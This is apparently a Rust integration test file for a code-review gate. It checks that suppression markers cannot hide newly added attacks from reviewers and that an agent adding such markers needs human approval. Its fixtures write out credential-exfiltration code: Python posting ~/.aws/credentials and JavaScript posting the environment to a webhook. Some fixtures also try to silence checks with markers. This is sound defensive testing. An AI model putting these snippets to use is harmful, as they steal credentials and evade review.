//! Inline suppression markers end to end: a marker the change adds never silences an attack it adds,
//! markers count only in comments, and every marker the change adds is listed for the reviewer.

mod common;

use common::Repo;

/// A Python file that reads AWS credentials and posts them (`attack.exfiltration` on the `post` line),
/// with `marker` on the comment-only line above the post.
fn exfiltration(marker: &str) -> String {
    format!(
        "import os\nimport requests\n\ncreds = open(os.path.expanduser(\"~/.aws/credentials\")).read()\n{marker}\nrequests.post(\"https://x.example.net/u\", data=creds)\n"
    )
}

/// A JavaScript file sending the environment to a webhook, the marker on the sending line.
fn js_exfiltration(marker: &str) -> String {
    format!(
        "const https = require(\"https\");\nconst data = JSON.stringify(process.env);\nfetch(\"https://webhook.site/0f0e\", {{ method: \"POST\", body: data }}); {marker}\n"
    )
}

fn checks(run: &common::Run) -> Vec<String> {
    run.findings().into_iter().map(|f| f.2).collect()
}

fn repo_with_readme() -> Repo {
    let repo = Repo::new();
    repo.write("README.md", "# x\n");
    repo.commit("base");
    repo
}

#[test]
fn a_marker_added_with_the_attack_does_not_silence_it_and_says_so() {
    let repo = repo_with_readme();
    repo.git(&["checkout", "-q", "-b", "change"]);
    repo.write(
        "telemetry.js",
        js_exfiltration("// review-gate: allow attack.exfiltration -- telemetry"),
    );
    repo.commit("change");
    for command in [&["diff", "main"][..], &["diff", "HEAD~1"][..]] {
        let mut args = command.to_vec();
        args.extend(["--format", "json"]);
        let run = repo.run(&args);
        assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
        let json = run.json();
        let chain = json["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["check"] == "attack.exfiltration")
            .unwrap_or_else(|| panic!("no chain: {}", run.stdout))
            .clone();
        let message = chain["message"].as_str().unwrap();
        assert!(
            message.contains("tried to silence it") && message.contains("line 3"),
            "{message}"
        );
        assert!(
            json["suppressions"].as_array().unwrap().is_empty(),
            "{}",
            run.stdout
        );
    }
    // The comment-only line above, in Python, staged: the same.
    let repo = repo_with_readme();
    repo.write(
        "sync.py",
        exfiltration("# review-gate: allow attack.exfiltration -- telemetry"),
    );
    repo.git(&["add", "-A"]);
    let run = repo.run(&["staged", "--format", "json"]);
    assert_eq!(run.code, 1, "{}", run.stdout);
    assert!(
        checks(&run).contains(&"attack.exfiltration".to_string()),
        "{}",
        run.stdout
    );
}

#[test]
fn a_marker_present_in_the_base_still_accepts_the_chain_it_names() {
    let repo = Repo::new();
    repo.write(
        "sync.py",
        "import os\n\n# review-gate: allow attack.exfiltration -- uploads our own backup, reviewed in #12\n",
    );
    repo.commit("base");
    repo.git(&["checkout", "-q", "-b", "change"]);
    repo.write(
        "sync.py",
        "import os\nimport requests\n# review-gate: allow attack.exfiltration -- uploads our own backup, reviewed in #12\nrequests.post(\"https://x.example.net/u\", data=open(os.path.expanduser(\"~/.aws/credentials\")).read())\n",
    );
    repo.commit("change");
    let run = repo.run(&["diff", "main", "--format", "json"]);
    assert!(
        !checks(&run).iter().any(|c| c.starts_with("attack.")),
        "{}",
        run.stdout
    );
    // A base marker is the base's: not listed as one this change adds.
    assert!(
        run.json()["suppressions"].as_array().unwrap().is_empty(),
        "{}",
        run.stdout
    );
}

#[test]
fn allow_attack_is_refused_with_a_message_naming_the_marker_line() {
    let repo = repo_with_readme();
    repo.write(
        "telemetry.js",
        js_exfiltration("// review-gate: allow attack -- telemetry"),
    );
    repo.git(&["add", "-A"]);
    let run = repo.run(&["staged", "--format", "json"]);
    assert_eq!(run.code, 1, "{}", run.stdout);
    let found = run.findings();
    assert!(
        found.iter().any(|f| f.2 == "attack.exfiltration"),
        "{}",
        run.stdout
    );
    assert!(
        found
            .iter()
            .any(|f| f.2 == "policy.allow-attack-category" && f.1 == 3),
        "{}",
        run.stdout
    );
    // Even when present in the base, the category accepts no chain (chains are accepted by exact id).
    let repo = Repo::new();
    repo.write(
        "sync.py",
        "import os\n# review-gate: allow attack -- backups\n",
    );
    repo.commit("base");
    repo.git(&["checkout", "-q", "-b", "change"]);
    repo.write(
        "sync.py",
        "import os\n# review-gate: allow attack -- backups\nimport requests; requests.post(\"https://x.example.net/u\", data=open(os.path.expanduser(\"~/.aws/credentials\")).read())\n",
    );
    repo.commit("change");
    let run = repo.run(&["diff", "main", "--format", "json"]);
    assert!(
        checks(&run).contains(&"attack.exfiltration".to_string()),
        "{}",
        run.stdout
    );
}

#[test]
fn a_marker_in_a_string_does_nothing() {
    // In the base, a bare string above the chain's line reads like a marker: it is no comment.
    let repo = Repo::new();
    repo.write(
        "sync.py",
        "import os\n'review-gate: allow attack.exfiltration -- not a comment'\n",
    );
    repo.commit("base");
    repo.git(&["checkout", "-q", "-b", "change"]);
    repo.write(
        "sync.py",
        "import os\n'review-gate: allow attack.exfiltration -- not a comment'\nimport requests; requests.post(\"https://x.example.net/u\", data=open(os.path.expanduser(\"~/.aws/credentials\")).read())\n",
    );
    repo.commit("change");
    let run = repo.run(&["diff", "main", "--format", "json"]);
    assert!(
        checks(&run).contains(&"attack.exfiltration".to_string()),
        "{}",
        run.stdout
    );
    // In a `.env` value (no lexer): a marker counts only after a comment opens.
    let repo = repo_with_readme();
    let token = common::github_token("A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5");
    repo.write(
        ".env",
        format!("TOKEN={token}gitleaks:allow\nOTHER={token} # gitleaks:allow\n"),
    );
    repo.git(&["add", "-A"]);
    let run = repo.run(&["staged", "--format", "json"]);
    let lines: Vec<u64> = run
        .findings()
        .into_iter()
        .filter(|f| f.2.starts_with("secret."))
        .map(|f| f.1)
        .collect();
    assert!(lines.contains(&1) && !lines.contains(&2), "{}", run.stdout);
    // JSON has no comments: no marker there, even in a value.
    repo.write(
        "config.json",
        format!("{{\n  \"token\": \"{token}\", \"note\": \"gitleaks:allow\"\n}}\n"),
    );
    repo.git(&["add", "-A"]);
    let run = repo.run(&["staged", "--format", "json"]);
    assert!(
        run.findings()
            .iter()
            .any(|f| f.0 == "config.json" && f.2.starts_with("secret.")),
        "{}",
        run.stdout
    );
}

#[test]
fn an_added_secret_marker_works_and_is_listed_in_every_format() {
    let repo = repo_with_readme();
    let token = common::github_token("Z9y8X7w6V5u4T3s2R1q0P9o8N7m6L5");
    repo.write(
        "tests/fixture.py",
        format!("TOKEN = \"{token}\"  # gitleaks:allow\nimport subprocess\nsubprocess.run(cmd, shell=True)  # review-gate: allow exec -- test helper, argv fixed\n"),
    );
    repo.git(&["add", "-A"]);
    let run = repo.run(&["staged", "--format", "json"]);
    assert!(
        !checks(&run)
            .iter()
            .any(|c| c.starts_with("secret.") || c.starts_with("exec.")),
        "{}",
        run.stdout
    );
    let json = run.json();
    let list = json["suppressions"].as_array().unwrap();
    assert_eq!(list.len(), 2, "{}", run.stdout);
    assert_eq!(list[0]["path"], "tests/fixture.py");
    assert_eq!(list[0]["line"], 1);
    assert_eq!(list[0]["marker"], "gitleaks:allow");
    assert!(list[0]["silenced"][0]["check"]
        .as_str()
        .unwrap()
        .starts_with("secret."));
    assert_eq!(list[1]["marker"], "review-gate: allow");
    assert_eq!(list[1]["reason"], "test helper, argv fixed");
    assert!(
        !run.stdout.contains(&token[8..]),
        "secret leaked: {}",
        run.stdout
    );

    let run = repo.run(&["staged"]);
    assert!(
        run.stdout.contains("Suppressions this change adds (2):")
            && run
                .stdout
                .contains("tests/fixture.py:1: gitleaks:allow silences secret.")
            && run.stdout.contains("-- test helper, argv fixed"),
        "{}",
        run.stdout
    );
    assert!(
        !run.stdout.contains(&token[8..]),
        "secret leaked: {}",
        run.stdout
    );

    let run = repo.run(&["staged", "--format", "sarif"]);
    let sarif: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    let suppressed: Vec<&serde_json::Value> = results
        .iter()
        .filter(|r| r.get("suppressions").is_some())
        .collect();
    assert_eq!(suppressed.len(), 2, "{}", run.stdout);
    assert_eq!(suppressed[1]["suppressions"][0]["kind"], "inSource");
    assert_eq!(
        suppressed[1]["suppressions"][0]["justification"],
        "test helper, argv fixed"
    );
    assert!(
        !run.stdout.contains(&token[8..]),
        "secret leaked: {}",
        run.stdout
    );
}

#[test]
fn a_scan_honors_markers_as_present_and_lists_them() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("sync.py"),
        exfiltration("# review-gate: allow attack.exfiltration -- uploads our own backup"),
    )
    .unwrap();
    let run = common::run_in(dir.path(), &["scan", ".", "--format", "json"], None);
    assert!(
        !checks(&run).iter().any(|c| c.starts_with("attack.")),
        "{}",
        run.stdout
    );
    let json = run.json();
    let list = json["suppressions"].as_array().unwrap();
    assert!(
        list.iter()
            .any(|s| s["silenced"][0]["check"] == "attack.exfiltration" && s["line"] == 5),
        "{}",
        run.stdout
    );
}

#[test]
/// A marker an agent adds silences review, so a person approves it: the reply asks (an allow would skip
/// the agent's own permission prompt) and names each marker.
fn an_agent_write_that_adds_a_marker_needs_approval_and_the_reply_names_it() {
    let repo = repo_with_readme();
    let input = serde_json::json!({
        "session_id": "s", "transcript_path": "/tmp/t.jsonl", "cwd": repo.path(),
        "permission_mode": "default", "hook_event_name": "PreToolUse", "tool_name": "Write",
        "tool_input": {
            "file_path": repo.path().join("build.py"),
            "content": "import subprocess\nsubprocess.run(cmd, shell=True)  # nosec\n",
        },
        "tool_use_id": "t1",
    })
    .to_string();
    let mut cmd = std::process::Command::new(common::binary());
    let out = cmd
        .current_dir(repo.path())
        .arg("agent-hook")
        .env_remove("REVIEW_GATE_BUILTIN_CHECKS")
        .env("CLAUDE_PROJECT_DIR", repo.path())
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    let mut child = out;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(input.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{stdout}");
    let reply: serde_json::Value =
        serde_json::from_str(&stdout).unwrap_or_else(|e| panic!("no reply ({e}): {stdout}"));
    let output = &reply["hookSpecificOutput"];
    assert_eq!(output["permissionDecision"], "ask", "{stdout}");
    let reason = output["permissionDecisionReason"].as_str().unwrap();
    assert!(
        reason.contains("Suppressions this action adds (1)")
            && reason.contains("build.py:2 nosec silences exec."),
        "{reason}"
    );
}

#[test]
fn a_marker_in_an_agents_shell_command_neither_silences_nor_unmasks_a_secret() {
    let repo = repo_with_readme();
    let token = common::github_token("M1n2B3v4C5x6Z7l8K9j0H1g2F3d4S5");
    let input = serde_json::json!({
        "session_id": "s", "transcript_path": "/tmp/t.jsonl", "cwd": repo.path(),
        "permission_mode": "default", "hook_event_name": "PreToolUse", "tool_name": "Bash",
        "tool_input": {"command": format!("curl -H 'Authorization: token {token}' https://api.github.com/user # gitleaks:allow")},
        "tool_use_id": "t1",
    })
    .to_string();
    let mut child = std::process::Command::new(common::binary())
        .current_dir(repo.path())
        .arg("agent-hook")
        .env_remove("REVIEW_GATE_BUILTIN_CHECKS")
        .env("CLAUDE_PROJECT_DIR", repo.path())
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(input.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let log = std::fs::read_to_string(repo.path().join(".git/review-gate/audit.jsonl")).unwrap();
    assert!(!log.contains(&token[8..]), "secret in the audit log: {log}");
    assert!(
        !stdout.contains(&token[8..]),
        "secret in the reply: {stdout}"
    );
    assert!(
        stdout.contains("secret."),
        "the secret was silenced: {stdout}"
    );
}
